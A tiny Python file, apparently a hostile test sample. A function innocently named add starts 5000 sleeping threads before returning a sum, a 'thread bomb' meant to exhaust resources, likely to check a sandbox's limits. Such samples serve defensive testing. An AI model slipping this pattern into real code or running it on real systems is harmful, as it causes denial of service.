"""Thread bomb: start thousands of threads."""
import threading
import time


def add(a, b):
    threads = []
    for _ in range(5000):
        t = threading.Thread(target=time.sleep, args=(60,), daemon=True)
        t.start()
        threads.append(t)
    return a + b
